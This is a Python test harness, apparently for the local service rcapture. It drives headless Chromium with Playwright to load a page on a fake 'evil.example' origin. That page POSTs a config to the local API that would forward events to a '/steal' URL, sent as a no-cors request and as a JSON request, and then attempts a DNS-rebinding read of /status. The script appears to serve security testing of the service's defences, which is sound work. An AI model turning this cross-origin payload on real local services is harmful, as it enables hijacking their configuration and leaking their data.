"""A page of another site attacks rcapture's API from headless Chromium.

Usage: browser_attack.py SERVER_PORT CHROMIUM_PATH

Serves a page on http://evil.example:PORT (Chromium resolves evil.example
to 127.0.0.1) that POSTs /config to http://127.0.0.1:SERVER_PORT twice: as
a no-cors text/plain request (which a browser sends without asking) and as
a JSON fetch (which needs a CORS preflight). Then opens
http://evil.example:SERVER_PORT/status, as a DNS-rebinding page would.
Prints one JSON object: what the page saw.
"""

import http.server
import json
import sys
import threading

from playwright.sync_api import sync_playwright

PAGE = b"""<!doctype html><html><body><script>
async function attack(target) {
  const body = JSON.stringify({event_forward: {url: "http://127.0.0.1:9/steal", format: "json"}});
  const out = {};
  try {
    await fetch(target + "/config", {method: "POST", mode: "no-cors",
      headers: {"Content-Type": "text/plain"}, body});
    out.no_cors = "sent";
  } catch (e) { out.no_cors = "error: " + e; }
  try {
    const r = await fetch(target + "/config", {method: "POST",
      headers: {"Content-Type": "application/json"}, body});
    out.json = "status " + r.status;
  } catch (e) { out.json = "error: " + e; }
  return out;
}
</script></body></html>"""


class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(PAGE)))
        self.end_headers()
        self.wfile.write(PAGE)

    def log_message(self, *args):
        pass


def main():
    server_port, chromium = int(sys.argv[1]), sys.argv[2]
    site = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=site.serve_forever, daemon=True).start()
    page_port = site.server_address[1]
    result = {}
    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=chromium,
            headless=True,
            args=["--no-sandbox", "--host-resolver-rules=MAP evil.example 127.0.0.1"],
        )
        page = browser.new_page()
        page.goto(f"http://evil.example:{page_port}/")
        result["origin"] = page.evaluate("location.origin")
        result.update(page.evaluate(f"attack('http://127.0.0.1:{server_port}')"))
        r = page.goto(f"http://evil.example:{server_port}/status")
        result["rebinding_status"] = r.status if r else None
        result["rebinding_body"] = page.evaluate("document.body.innerText")
        browser.close()
    site.shutdown()
    print(json.dumps(result))


main()
